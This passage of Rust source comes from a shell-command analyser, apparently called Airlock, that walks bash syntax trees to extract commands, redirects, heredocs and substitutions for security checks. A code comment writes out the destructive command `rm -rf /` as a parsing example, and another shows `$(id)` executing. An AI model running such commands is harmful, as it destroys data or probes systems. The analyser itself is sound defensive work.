            RedirectKind::HereString => stdin = Some(Rc::from(r.target.value_or_raw())),
            RedirectKind::Read | RedirectKind::ReadWrite | RedirectKind::DupIn => stdin = None,
            RedirectKind::Write | RedirectKind::Append | RedirectKind::DupOut => {}
        }
    }
    stdin
}

struct Walker {
    opts: ParserOptions,
    out: ParsedScript,
    next_pipeline_id: usize,
    /// Heredoc / stdin text copied into the output so far.
    copied_text_bytes: usize,
}

/// Formats a brush error without leaking its (possibly huge) input.
fn brush_err(what: &str, e: &dyn std::fmt::Display) -> ShellParseError {
    let mut msg = format!("{what}: {e}");
    if msg.len() > 300 {
        let mut cut = 300;
        while !msg.is_char_boundary(cut) {
            cut -= 1;
        }
        msg.truncate(cut);
        msg.push('…');
    }
    ShellParseError::new(msg)
}

impl Walker {
    /// Tokenizes, checks and parses `text`, then walks it.
    fn parse_source(&mut self, text: &str, ctx: &Ctx) -> Result<()> {
        check_bracket_nesting(text)?;
        check_heredoc_delimiters(text)?;
        let tokens = brush_parser::uncached_tokenize_str(text, &self.opts.tokenizer_options())
            .map_err(|e| brush_err("tokenizer", &e))?;
        check_token_nesting(&tokens)?;
        check_fd_numbers(&tokens)?;
        let program =
            brush_parser::parse_tokens(&tokens, &self.opts).map_err(|e| brush_err("parser", &e))?;
        for list in &program.complete_commands {
            self.walk_list(list, ctx)?;
        }
        Ok(())
    }

    fn walk_list(&mut self, list: &ast::CompoundList, ctx: &Ctx) -> Result<()> {
        for ast::CompoundListItem(and_or, sep) in &list.0 {
            let mut c = ctx.nested()?;
            if matches!(sep, ast::SeparatorOperator::Async) {
                c.background = true;
            }
            self.walk_pipeline(&and_or.first, &c)?;
            for next in &and_or.additional {
                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
                self.walk_pipeline(p, &c)?;
            }
        }
        Ok(())
    }

    fn walk_pipeline(&mut self, pipeline: &ast::Pipeline, ctx: &Ctx) -> Result<()> {
        let id = self.next_pipeline_id;
        self.next_pipeline_id += 1;
        for (pos, cmd) in pipeline.seq.iter().enumerate() {
            let mut c = ctx.nested()?;
            c.pipelines.push((id, pos));
            if pos > 0 {
                // stdin is the pipe, not an enclosing heredoc.
                c.inherited_stdin = None;
            }
            self.walk_command(cmd, &c)?;
        }
        Ok(())
    }

    fn walk_command(&mut self, cmd: &ast::Command, ctx: &Ctx) -> Result<()> {
        match cmd {
            ast::Command::Simple(sc) => self.simple_command(sc, ctx),
            ast::Command::Compound(cc, redirects) => {
                let reds = self.redirect_list(redirects.as_ref(), ctx)?;
                let c = ctx.with_redirects(reds);
                self.walk_compound(cc, &c)
            }
            ast::Command::Function(def) => {
                let name = def.fname.value.clone();
                self.out.functions.push(name.clone());
                let ast::FunctionBody(body, redirects) = &def.body;
                let reds = self.redirect_list(redirects.as_ref(), ctx)?;
                let mut c = ctx.with_redirects(reds);
                c.in_function = Some(name);
                self.walk_compound(body, &c)
            }
            ast::Command::ExtendedTest(test, redirects) => {
                let idx = self.begin_command(ctx);
                let reds = self.redirect_list(redirects.as_ref(), ctx)?;
                let mut words = vec![ShellWord::plain("[[")];
                self.extended_test(&test.expr, ctx, &mut words)?;
                words.push(ShellWord::plain("]]"));
                self.finish_command(idx, ctx, Vec::new(), words, reds)
            }
        }
    }

    fn walk_compound(&mut self, cc: &ast::CompoundCommand, ctx: &Ctx) -> Result<()> {
        let ctx = &ctx.nested()?;
        match cc {
            ast::CompoundCommand::Arithmetic(arith) => {
                // brush parses any two `(` tokens as an arithmetic command, so
                // `( (rm -rf /) )` would come out as `(( rm -rf / ))`. bash only reads
                // `((`..`))` written with adjacent parentheses as arithmetic; anything
                // else is nested subshells, so re-parse it as such.
                let text = slice_chars(&ctx.src, arith.loc.start.index, arith.loc.end.index);
                if let Some(t) = text.filter(|t| !(t.starts_with("((") && t.ends_with("))"))) {
                    let inner = t
                        .strip_prefix('(')
                        .and_then(|t| t.strip_suffix(')'))
                        .unwrap_or(t);
                    let mut c = ctx.deeper()?;
                    c.src = Rc::from(inner);
                    return self.parse_source(inner, &c);
                }
                let idx = self.begin_command(ctx);
                let expr = self.arith_word(&arith.expr.value, ctx)?;
                let words = vec![ShellWord::plain("(("), expr, ShellWord::plain("))")];
                self.finish_command(idx, ctx, Vec::new(), words, Vec::new())
            }
            ast::CompoundCommand::ArithmeticForClause(f) => {
                // Each expression of `for ((…; …; …))` is arithmetic, as `(( … ))` is: the
                // names it reads are checked like those of an arithmetic command.
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    let idx = self.begin_command(ctx);
                    let expr = self.arith_word(&e.value, ctx)?;
                    let words = vec![ShellWord::plain("(("), expr, ShellWord::plain("))")];
                    self.finish_command(idx, ctx, Vec::new(), words, Vec::new())?;
                }
                self.walk_list(&f.body.list, ctx)
            }
            ast::CompoundCommand::BraceGroup(b) => self.walk_list(&b.list, ctx),
            ast::CompoundCommand::Subshell(s) => self.walk_list(&s.list, &ctx.deeper()?),
            ast::CompoundCommand::ForClause(f) => {
                // The word list is expanded (and its substitutions run) before the loop.
                for w in f.values.iter().flatten() {
                    self.word(&w.value, ctx)?;
                }
                self.walk_list(&f.body.list, ctx)
            }
            ast::CompoundCommand::CaseClause(c) => {
                self.word(&c.value.value, ctx)?;
                for item in &c.cases {
                    for p in &item.patterns {
                        self.word(&p.value, ctx)?;
                    }
                    if let Some(body) = &item.cmd {
                        self.walk_list(body, ctx)?;
                    }
                }
                Ok(())
            }
            ast::CompoundCommand::IfClause(i) => {
                self.walk_list(&i.condition, ctx)?;
                self.walk_list(&i.then, ctx)?;
                for e in i.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        self.walk_list(cond, ctx)?;
                    }
                    self.walk_list(&e.body, ctx)?;
                }
                Ok(())
            }
            ast::CompoundCommand::WhileClause(w) | ast::CompoundCommand::UntilClause(w) => {
                self.walk_list(&w.0, ctx)?;
                self.walk_list(&w.1.list, ctx)
            }
            ast::CompoundCommand::Coprocess(co) => {
                let mut c = ctx.clone();
                c.background = true;
                self.walk_command(&co.body, &c)
            }
        }
    }

    /// Reserves the slot of a command so it precedes the commands nested in its words.
    fn begin_command(&mut self, ctx: &Ctx) -> usize {
        let (pipeline_id, pipeline_pos, enclosing) = match ctx.pipelines.split_last() {
            Some((&(id, pos), rest)) => (id, pos, rest.to_vec()),
            None => {
                // Not reachable (every command is inside a pipeline); keep ids unique anyway.
                let id = self.next_pipeline_id;
                self.next_pipeline_id += 1;
                (id, 0, Vec::new())
            }
        };
        self.out.commands.push(SimpleCommand {
            depth: ctx.depth,
            assignments: Vec::new(),
            words: Vec::new(),
            redirects: Vec::new(),
            stdin_text: None,
            pipeline_id,
            pipeline_pos,
            enclosing_pipelines: enclosing,
            in_function: ctx.in_function.clone(),
            background: ctx.background,
        });
        self.out.commands.len() - 1
    }

    fn finish_command(
        &mut self,
        idx: usize,
        ctx: &Ctx,
        assignments: Vec<(String, ShellWord)>,
        words: Vec<ShellWord>,
        mut redirects: Vec<Redirect>,
    ) -> Result<()> {
        let stdin_text =
            stdin_after(&redirects, ctx.inherited_stdin.clone()).map(|s| s.to_string());
        let copied = stdin_text.as_ref().map_or(0, String::len)
            + ctx
                .inherited_redirects
                .iter()
                .filter_map(|r| r.heredoc_body.as_ref().map(String::len))
                .sum::<usize>();
        self.copied_text_bytes = self.copied_text_bytes.saturating_add(copied);
        if self.copied_text_bytes > MAX_COPIED_TEXT_BYTES {
            return Err(ShellParseError::new(
                "too much heredoc text repeated across commands",
            ));
        }
        redirects.extend(ctx.inherited_redirects.iter().cloned());
        if let Some(cmd) = self.out.commands.get_mut(idx) {
            cmd.assignments = assignments;
            cmd.words = words;
            cmd.redirects = redirects;
            cmd.stdin_text = stdin_text;
        }
        Ok(())
    }

    fn simple_command(&mut self, sc: &ast::SimpleCommand, ctx: &Ctx) -> Result<()> {
        let idx = self.begin_command(ctx);
        let mut assignments = Vec::new();
        let mut words = Vec::new();
        let mut redirects = Vec::new();

        let prefix = sc.prefix.iter().flat_map(|p| p.0.iter());
        for item in prefix {
            match item {
                ast::CommandPrefixOrSuffixItem::AssignmentWord(a, whole) => {
                    assignments.push(self.assignment(a, &whole.value, ctx)?);
                }
                // Only assignments and redirects can occur in a prefix; handle the rest
                // like suffix items anyway rather than dropping anything.
                other => self.suffix_item(other, ctx, &mut words, &mut redirects)?,
            }
        }
        if let Some(name) = &sc.word_or_name {
            words.push(self.word(&name.value, ctx)?);
        }
        for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
            self.suffix_item(item, ctx, &mut words, &mut redirects)?;
        }
        self.finish_command(idx, ctx, assignments, words, redirects)
    }

    fn suffix_item(
        &mut self,
        item: &ast::CommandPrefixOrSuffixItem,
        ctx: &Ctx,
        words: &mut Vec<ShellWord>,
        redirects: &mut Vec<Redirect>,
    ) -> Result<()> {
        match item {
            ast::CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(self.redirect(r, ctx)?),
            ast::CommandPrefixOrSuffixItem::Word(w) => words.push(self.word(&w.value, ctx)?),
            // After the command name, `a=b` is just an argument (e.g. `env a=b`, `export`).
            ast::CommandPrefixOrSuffixItem::AssignmentWord(_, whole) => {
                words.push(self.word(&whole.value, ctx)?);
            }
            ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, sub) => {
                words.push(self.process_subst(kind, sub, ctx)?);
            }
        }
        Ok(())
    }

    fn assignment(
        &mut self,
        a: &ast::Assignment,
        whole: &str,
        ctx: &Ctx,
    ) -> Result<(String, ShellWord)> {
        let name = match &a.name {
            ast::AssignmentName::VariableName(n) => n.clone(),
            ast::AssignmentName::ArrayElementName(n, index) => {
                self.arith_word(index, ctx)?;
                format!("{n}[{index}]")
            }
        };
        let value = match &a.value {
            ast::AssignmentValue::Scalar(w) => self.word(&w.value, ctx)?,
            ast::AssignmentValue::Array(elements) => {
                let mut pieces = Vec::new();
                for (i, (key, val)) in elements.iter().enumerate() {
                    if i > 0 {
                        push_literal(&mut pieces, " ");
                    }
                    if let Some(k) = key {
                        self.arith_word(&k.value, ctx)?;
                    }
                    let w = self.word(&val.value, ctx)?;
                    for p in w.pieces {
                        push_piece(&mut pieces, p);
                    }
                }
                let raw = whole
                    .split_once('=')
                    .map_or_else(|| whole.to_owned(), |(_, v)| v.to_owned());
                ShellWord { raw, pieces }
            }
        };
        Ok((name, value))
    }

    fn redirect_list(
        &mut self,
        list: Option<&ast::RedirectList>,
        ctx: &Ctx,
    ) -> Result<Vec<Redirect>> {
        let mut out = Vec::new();
        for r in list.iter().flat_map(|l| l.0.iter()) {
            out.push(self.redirect(r, ctx)?);
        }
        Ok(out)
    }

    fn redirect(&mut self, r: &ast::IoRedirect, ctx: &Ctx) -> Result<Redirect> {
        let mut heredoc_body = None;
        let (fd, kind, op, target) = match r {
            ast::IoRedirect::File(fd, kind, target) => {
                let (k, op) = match kind {
                    ast::IoFileRedirectKind::Read => (RedirectKind::Read, "<"),
                    ast::IoFileRedirectKind::Write => (RedirectKind::Write, ">"),
                    ast::IoFileRedirectKind::Append => (RedirectKind::Append, ">>"),
                    ast::IoFileRedirectKind::ReadAndWrite => (RedirectKind::ReadWrite, "<>"),
                    ast::IoFileRedirectKind::Clobber => (RedirectKind::Write, ">|"),
                    ast::IoFileRedirectKind::DuplicateInput => (RedirectKind::DupIn, "<&"),
                    ast::IoFileRedirectKind::DuplicateOutput => (RedirectKind::DupOut, ">&"),
                };
                let t = match target {
                    ast::IoFileRedirectTarget::Filename(w)
                    | ast::IoFileRedirectTarget::Duplicate(w) => self.word(&w.value, ctx)?,
                    ast::IoFileRedirectTarget::Fd(n) => ShellWord::plain(&n.to_string()),
                    ast::IoFileRedirectTarget::ProcessSubstitution(pk, sub) => {
                        self.process_subst(pk, sub, ctx)?
                    }
                };
                (*fd, k, op, t)
            }
            ast::IoRedirect::HereDocument(fd, doc) => {
                if doc.requires_expansion {
                    // Unquoted delimiter: `$(..)` and backticks in the body run.
                    let body = &doc.doc.value;
                    if body.contains(['$', '`']) {
                        check_word_nesting(body, true)?;
                        let pieces = bword::parse_heredoc(body, &self.opts)
                            .map_err(|e| brush_err("heredoc", &e))?;
                        let mut scratch = Vec::new();
                        self.convert_pieces(&pieces, body, true, ctx, &mut scratch)?;
                    }
                }
                heredoc_body = Some(doc.doc.value.clone());
                let op = if doc.remove_tabs { "<<-" } else { "<<" };
                let t = self.word(&doc.here_end.value, ctx)?;
                (*fd, RedirectKind::HereDoc, op, t)
            }
            ast::IoRedirect::HereString(fd, w) => (
                *fd,
                RedirectKind::HereString,
                "<<<",
                self.word(&w.value, ctx)?,
            ),
            ast::IoRedirect::OutputAndError(w, append) => {
                let t = self.word(&w.value, ctx)?;
                if *append {
                    (None, RedirectKind::Append, "&>>", t)
                } else {
                    (None, RedirectKind::Write, "&>", t)
                }
            }
        };
        Ok(Redirect {
            fd,
            kind,
            target,
            op: op.to_owned(),
            heredoc_body,
            inherited: false,
        })
    }

    /// Walks a process substitution (depth + 1) and returns its marker word.
    fn process_subst(
        &mut self,
        kind: &ast::ProcessSubstitutionKind,
        sub: &ast::SubshellCommand,
        ctx: &Ctx,
    ) -> Result<ShellWord> {
        self.walk_list(&sub.list, &ctx.deeper()?)?;
        let body = slice_chars(&ctx.src, sub.loc.start.index, sub.loc.end.index)
            .map_or_else(|| sub.to_string(), str::to_owned);
        Ok(ShellWord {
            raw: format!("{kind}{body}"),
            pieces: vec![WordPiece::CommandSubst],
        })
    }

    /// Flattens a `[[ .. ]]` expression into words, extracting substitutions.
    fn extended_test(
        &mut self,
        expr: &ast::ExtendedTestExpr,
        ctx: &Ctx,
        words: &mut Vec<ShellWord>,
    ) -> Result<()> {
        let ctx = &ctx.nested()?;
        match expr {
            ast::ExtendedTestExpr::And(l, r) | ast::ExtendedTestExpr::Or(l, r) => {
                self.extended_test(l, ctx, words)?;
                let op = if matches!(expr, ast::ExtendedTestExpr::And(..)) {
                    "&&"
                } else {
                    "||"
                };
                words.push(ShellWord::plain(op));
                self.extended_test(r, ctx, words)?;
            }
            ast::ExtendedTestExpr::Not(e) => {
                words.push(ShellWord::plain("!"));
                self.extended_test(e, ctx, words)?;
            }
            ast::ExtendedTestExpr::Parenthesized(e) => {
                words.push(ShellWord::plain("("));
                self.extended_test(e, ctx, words)?;
                words.push(ShellWord::plain(")"));
            }
            ast::ExtendedTestExpr::UnaryTest(pred, w) => {
                words.push(ShellWord::plain(&pred.to_string()));
                words.push(self.word(&w.value, ctx)?);
            }
            ast::ExtendedTestExpr::BinaryTest(pred, l, r) => {
                words.push(self.word(&l.value, ctx)?);
                words.push(ShellWord::plain(&pred.to_string()));
                words.push(self.word(&r.value, ctx)?);
            }
        }
        Ok(())
    }

    // -----------------------------------------------------------------------------------
    // Words
    // -----------------------------------------------------------------------------------

    /// Parses a word as written, extracting nested substitutions.
    fn word(&mut self, raw: &str, ctx: &Ctx) -> Result<ShellWord> {
        check_word_nesting(raw, false)?;
        check_tilde_number(raw)?;
        let parsed = bword::parse(raw, &self.opts).map_err(|e| brush_err("word", &e))?;
        let mut pieces = Vec::new();
        self.convert_pieces(&parsed, raw, false, ctx, &mut pieces)?;
        if pieces.is_empty() {
            pieces.push(WordPiece::Literal(String::new()));
        }
        expand_tilde_after_assignment(raw, &mut pieces);
        if has_brace_expansion(raw) {
            // `{a,b}` / `{1..3}` turn one word into several: not a static value. Mark the
            // unquoted pieces that carry the braces.
            for p in &mut pieces {
                if let WordPiece::Literal(t) | WordPiece::Glob(t) = p
                    && t.contains(['{', '}'])
                {
                    *p = WordPiece::Other(std::mem::take(t));
                }
            }
        }
        Ok(ShellWord {
            raw: raw.to_owned(),
            pieces,
        })
    }

    /// Parses arithmetic text as a word: only its substitutions matter, the result is an
    /// opaque `Other` word.
    fn arith_word(&mut self, text: &str, ctx: &Ctx) -> Result<ShellWord> {
        let mut pieces = vec![WordPiece::Other(text.to_owned())];
        if self.nested_text(text, ctx)? {
            pieces.push(WordPiece::CommandSubst);
        }
        Ok(ShellWord {
            raw: text.to_owned(),
            pieces,
        })
    }

    /// Extracts substitutions from text embedded in an expansion (parameter operands,
    /// arithmetic, array indices). Returns whether it contains a command substitution.
    fn nested_text(&mut self, text: &str, ctx: &Ctx) -> Result<bool> {
        if !text.contains(['$', '`']) {
            return Ok(false); // Nothing can run; don't risk a spurious word-parse error.
        }
        check_word_nesting(text, false)?;
        check_tilde_number(text)?;
        let parsed = bword::parse(text, &self.opts).map_err(|e| brush_err("word", &e))?;
        let mut scratch = Vec::new();
        self.convert_pieces(&parsed, text, false, ctx, &mut scratch)?;
        Ok(scratch.contains(&WordPiece::CommandSubst))
    }

    /// Runs the full parser on the text of a command substitution, at depth + 1.
    fn substitution(&mut self, text: &str, ctx: &Ctx) -> Result<()> {
        let mut c = ctx.deeper()?;
        c.src = Rc::from(text);
        // The outer command's redirects apply after expansion, not to the substitution.
        c.inherited_redirects = Rc::default();
        self.parse_source(text, &c)
    }

    fn convert_pieces(
        &mut self,
        pieces: &[WordPieceWithSource],
        raw: &str,
        quoted: bool,
        ctx: &Ctx,
        out: &mut Vec<WordPiece>,
    ) -> Result<()> {
        let ctx = &ctx.nested()?;
        for p in pieces {
            let src = raw.get(p.start_index..p.end_index).unwrap_or_default();
            match &p.piece {
                bword::WordPiece::Text(t) => {
                    if quoted {
                        push_literal(out, t);
                    } else {
                        split_globs(t, out);
                    }
                }
                bword::WordPiece::SingleQuotedText(t) => push_literal(out, t),
                bword::WordPiece::AnsiCQuotedText(t) => push_literal(out, &decode_ansi_c(t)),
                bword::WordPiece::DoubleQuotedSequence(inner)
                | bword::WordPiece::GettextDoubleQuotedSequence(inner) => {
                    if inner.is_empty() {
                        // Keeps `""` visible as an (empty) literal.
                        push_literal(out, "");
                    }
                    self.convert_pieces(inner, raw, true, ctx, out)?;
                }
                bword::WordPiece::TildeExpansion(t) => out.push(WordPiece::Tilde(tilde_text(t))),
                bword::WordPiece::ParameterExpansion(e) => self.parameter(e, ctx, out)?,
                bword::WordPiece::CommandSubstitution(cmd) => {
                    self.substitution(cmd, ctx)?;
                    out.push(WordPiece::CommandSubst);
                }
                bword::WordPiece::BackquotedCommandSubstitution(cmd) => {
                    // brush only unescapes "\`"; bash also unescapes `\$` and `\\` (and
                    // `\"` inside double quotes), so `\$(id)` inside backticks *does* run.
                    // Re-derive the body from the source text.
                    let body = src
                        .strip_prefix('`')
                        .and_then(|s| s.strip_suffix('`'))
                        .map_or_else(|| cmd.clone(), |s| unescape_backticks(s, quoted));
                    self.substitution(&body, ctx)?;
                    out.push(WordPiece::CommandSubst);
                }
                bword::WordPiece::EscapeSequence(e) => {
                    push_literal(out, e.strip_prefix('\\').unwrap_or(e));
                }
                bword::WordPiece::ArithmeticExpression(e) => {
                    // Wherever it appears (an argument, a `case` pattern, a `for` list, a
                    // here-string), `$(( … ))` is arithmetic: reported as an arithmetic
                    // command of its own, so the names it reads are checked like those of
                    // `(( … ))`.
                    let idx = self.begin_command(ctx);
                    let words = vec![
                        ShellWord::plain("(("),
                        ShellWord::plain(&e.value),
                        ShellWord::plain("))"),
                    ];
                    self.finish_command(idx, ctx, Vec::new(), words, Vec::new())?;
                    let runs = self.nested_text(&e.value, ctx)?;
                    let text = if src.is_empty() {
                        format!("$(({}))", e.value)
                    } else {
                        src.to_owned()
                    };
                    out.push(WordPiece::Other(text));
                    if runs {
                        out.push(WordPiece::CommandSubst);
                    }
                }
            }
        }
        Ok(())
    }

    fn parameter(
        &mut self,
        e: &bword::ParameterExpr,
        ctx: &Ctx,
        out: &mut Vec<WordPiece>,
    ) -> Result<()> {
        use bword::ParameterExpr as P;
        let mut operands: Vec<&str> = Vec::new();
        // Only a plain `$X` / `${X}` keeps the variable's name, so that a value Airlock knows
        // for certain may stand in for it. Any operator (substring, `#`/`%` removal, `/`
        // replacement, case change, `@` transform, length, defaults, indirection, array
        // elements) computes a value Airlock does not: the piece is `Other`, never the
        // variable's whole value (`${PWD:0:0}rm` is not the program `…/projrm`).
        let plain = matches!(
            e,
            P::Parameter {
                indirect: false,
                parameter: bword::Parameter::Named(_)
                    | bword::Parameter::Positional(_)
                    | bword::Parameter::Special(_),
            }
        );
        let param = match e {
            P::Parameter { parameter, .. } | P::ParameterLength { parameter, .. } => parameter,
            P::UseDefaultValues {
                parameter,
                default_value: v,
                ..
            }
            | P::AssignDefaultValues {
                parameter,
                default_value: v,
                ..
            }
            | P::IndicateErrorIfNullOrUnset {
                parameter,
                error_message: v,
                ..
            }
            | P::UseAlternativeValue {
                parameter,
                alternative_value: v,
                ..
            }
            | P::RemoveSmallestSuffixPattern {
                parameter,
                pattern: v,
                ..
            }
            | P::RemoveLargestSuffixPattern {
                parameter,
                pattern: v,
                ..
            }
            | P::RemoveSmallestPrefixPattern {
                parameter,
                pattern: v,
                ..
            }
            | P::RemoveLargestPrefixPattern {
                parameter,
                pattern: v,
                ..
            }
            | P::UppercaseFirstChar {
                parameter,
                pattern: v,
                ..
            }
            | P::UppercasePattern {
                parameter,
                pattern: v,
                ..
            }
            | P::LowercaseFirstChar {
                parameter,
                pattern: v,
                ..
            }
            | P::LowercasePattern {
                parameter,
                pattern: v,
                ..
            } => {
                operands.extend(v.as_deref());
                parameter
            }
            P::Substring {
                parameter,
                offset,
                length,
                ..
            } => {
                operands.push(&offset.value);
                operands.extend(length.as_ref().map(|l| l.value.as_str()));
                parameter
            }
            P::Transform { parameter, .. } => parameter,
            P::ReplaceSubstring {
                parameter,
                pattern,
                replacement,
                ..
            } => {
                operands.push(pattern);
                operands.extend(replacement.as_deref());
                parameter
            }
            P::VariableNames { prefix, .. } => {
                out.push(WordPiece::Other(format!("${{!{prefix}…}}")));
                return Ok(());
            }
            P::MemberKeys { variable_name, .. } => {
                out.push(WordPiece::Other(format!("${{!{variable_name}[…]}}")));
                return Ok(());
            }
        };
        let name = match param {
            bword::Parameter::Positional(n) => n.to_string(),
            bword::Parameter::Special(s) => s.to_string(),
            bword::Parameter::Named(n) | bword::Parameter::NamedWithAllIndices { name: n, .. } => {
                n.clone()
            }
            bword::Parameter::NamedWithIndex { name, index } => {
                operands.push(index);
                name.clone()
            }
        };
        let array = matches!(
            e,
            P::Parameter {
                indirect: false,
                parameter: bword::Parameter::NamedWithIndex { .. }
                    | bword::Parameter::NamedWithAllIndices { .. },
            }
        );
        if plain {
            out.push(WordPiece::Param(name));
        } else if array {
            out.push(WordPiece::ArrayParam(name));
        } else {
            out.push(WordPiece::Other(format!("${{{name}…}}")));
        }
        let mut runs = false;
        for text in operands {
            runs |= self.nested_text(text, ctx)?;
        }
        if runs {
            out.push(WordPiece::CommandSubst);
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------

/// Appends a piece, merging adjacent `Literal`s and adjacent `Glob`s.
fn push_piece(out: &mut Vec<WordPiece>, piece: WordPiece) {
    match (out.last_mut(), piece) {
        (Some(WordPiece::Literal(prev)), WordPiece::Literal(t))
        | (Some(WordPiece::Glob(prev)), WordPiece::Glob(t)) => prev.push_str(&t),
        (_, piece) => out.push(piece),
    }
}

fn push_literal(out: &mut Vec<WordPiece>, text: &str) {
    push_piece(out, WordPiece::Literal(text.to_owned()));
}

/// Splits unquoted text into literal and glob pieces (`*`, `?`, `[...]`, extglobs).
fn split_globs(text: &str, out: &mut Vec<WordPiece>) {
    let chars: Vec<char> = text.chars().collect();
    let mut lit = String::new();
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        let glob_end = match c {
            '*' | '?' | '+' | '@' | '!' if chars.get(i + 1) == Some(&'(') => {
                matching_paren(&chars, i + 1).or(if matches!(c, '*' | '?') {
                    Some(i)
                } else {
                    None
                })
            }
            '*' | '?' => Some(i),
            '[' => bracket_end(&chars, i),
            _ => None,
        };
        match glob_end {
            Some(end) => {
                if !lit.is_empty() {
                    push_literal(out, &std::mem::take(&mut lit));
                }
                let g: String = chars.get(i..=end).unwrap_or_default().iter().collect();
                push_piece(out, WordPiece::Glob(g));
                i = end + 1;
            }
            None => {
                lit.push(c);
                i += 1;
            }
        }
    }
    if !lit.is_empty() || out.is_empty() {
        push_literal(out, &lit);
    }
}

/// Index of the `)` matching the `(` at `open`.
fn matching_paren(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (j, &c) in chars.iter().enumerate().skip(open) {
        match c {
            '(' => depth += 1,
            ')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Some(j);
                }
            }
            _ => {}
        }
    }
    None
}

/// Index of the `]` closing a bracket expression starting at `open` (a `]` right after
/// `[`, `[!` or `[^` is part of the set).
fn bracket_end(chars: &[char], open: usize) -> Option<usize> {
    let mut j = open + 1;
    if matches!(chars.get(j), Some('!' | '^')) {
        j += 1;
    }
    if chars.get(j) == Some(&']') {
        j += 1;
    }
    chars
        .iter()
        .enumerate()
        .skip(j)
        .find(|&(_, &c)| c == ']')
        .map(|(k, _)| k)
}

/// Whether an unquoted brace expansion (`{a,b}`, `{1..3}`) occurs in the word.
///
/// Our own linear scan: brush's `parse_brace_expansions` backtracks exponentially on
/// inputs like `x{a,{x{a,{...`. Quoted text and the insides of `${..}` / `$(..)` are
/// skipped (the latter are parsed separately).
fn has_brace_expansion(raw: &str) -> bool {
    if !(raw.contains('{') && raw.contains('}')) {
        return false;
    }
    let bytes = raw.as_bytes();
    // Open braces: (byte index after `{`, saw a top-level comma).
    let mut open: Vec<(usize, bool)> = Vec::new();
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\\' => i += 1,
            b'\'' => i = skip_past(bytes, i + 1, b'\''),
            b'"' => {
                // Skip a double-quoted string (with backslash escapes).
                let mut j = i + 1;
                while let Some(&c) = bytes.get(j) {
                    match c {
                        b'\\' => j += 1,
                        b'"' => break,
                        _ => {}
                    }
                    j += 1;
                }
                i = j;
            }
            b'$' => match bytes.get(i + 1) {
                Some(b'\'') => {
                    let mut j = i + 2;
                    while let Some(&c) = bytes.get(j) {
                        match c {
                            b'\\' => j += 1,
                            b'\'' => break,
                            _ => {}
                        }
                        j += 1;
                    }
                    i = j;
                }
                Some(b'{') => i = skip_balanced(bytes, i + 1, b'{', b'}'),
                Some(b'(') => i = skip_balanced(bytes, i + 1, b'(', b')'),
                _ => {}
            },
            b'{' => open.push((i + 1, false)),
            b',' => {
                if let Some(top) = open.last_mut() {
                    top.1 = true;
                }
            }
            b'}' => {
                if let Some((start, comma)) = open.pop()
                    && (comma || raw.get(start..i).is_some_and(is_brace_sequence))
                {
                    return true;
                }
            }
            _ => {}
        }
        i += 1;
    }
    false
}

/// Index of the next `end` byte at or after `from` (or the end of input).
fn skip_past(bytes: &[u8], from: usize, end: u8) -> usize {
    bytes
        .iter()
        .enumerate()
        .skip(from)
        .find(|&(_, &c)| c == end)
        .map_or(bytes.len(), |(j, _)| j)
}

/// Index of the delimiter closing the one at `open_at` (approximate: ignores quotes).
fn skip_balanced(bytes: &[u8], open_at: usize, open: u8, close: u8) -> usize {
    let mut depth = 0usize;
    for (j, &c) in bytes.iter().enumerate().skip(open_at) {
        if c == open {
            depth += 1;
        } else if c == close {
            depth = depth.saturating_sub(1);
            if depth == 0 {
                return j;
            }
        }
    }
    bytes.len()
}

/// `1..5`, `-3..3..2`, `a..z`, `a..z..2`.
fn is_brace_sequence(inner: &str) -> bool {
    let parts: Vec<&str> = inner.split("..").collect();
    let is_int = |p: &str| {
        let digits = p.strip_prefix(['-', '+']).unwrap_or(p);
        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
    };
    let is_letter = |p: &str| p.len() == 1 && p.bytes().all(|b| b.is_ascii_alphabetic());
    let (first, last) = match parts.as_slice() {
        [a, b] => (*a, *b),
        [a, b, step] if is_int(step) => (*a, *b),
        _ => return false,
    };
    (is_int(first) && is_int(last)) || (is_letter(first) && is_letter(last))
}

fn tilde_text(t: &bword::TildeExpr) -> String {
    match t {
        bword::TildeExpr::Home => String::new(),
        bword::TildeExpr::UserHome(u) => u.clone(),
        bword::TildeExpr::WorkingDir => "+".to_owned(),
        bword::TildeExpr::OldWorkingDir => "-".to_owned(),
        bword::TildeExpr::NthDirFromTopOfDirStack { n, plus_used } => {
            if *plus_used {
                format!("+{n}")
            } else {
                n.to_string()
            }
        }
        bword::TildeExpr::NthDirFromBottomOfDirStack { n } => format!("-{n}"),
    }
}

/// bash's backslash processing for the body of `` `...` ``: a backslash is removed before
/// `$`, `` ` ``, `\` (and `"` when the substitution is inside double quotes).
fn unescape_backticks(body: &str, in_double_quotes: bool) -> String {
    let mut out = String::with_capacity(body.len());
    let mut chars = body.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some(&n) if n == '$' || n == '`' || n == '\\' || (in_double_quotes && n == '"') => {
                    out.push(n);
                    chars.next();
                    continue;
                }
                _ => {}
            }
        }
        out.push(c);
    }
    out
}

/// Decodes the body of an ANSI-C quoted string (`$'...'`).
fn decode_ansi_c(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    // Reads up to `max` digits of the given radix.
    fn digits(
        chars: &mut std::iter::Peekable<std::str::Chars<'_>>,
        radix: u32,
        max: usize,
    ) -> Option<u32> {
        let mut value: Option<u32> = None;
        for _ in 0..max {
            let Some(d) = chars.peek().and_then(|c| c.to_digit(radix)) else {
                break;
            };
            chars.next();
            value = Some(value.unwrap_or(0).saturating_mul(radix).saturating_add(d));
        }
        value
    }
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        let simple = match e {
            'a' => Some('\x07'),
            'b' => Some('\x08'),
            'e' | 'E' => Some('\x1b'),
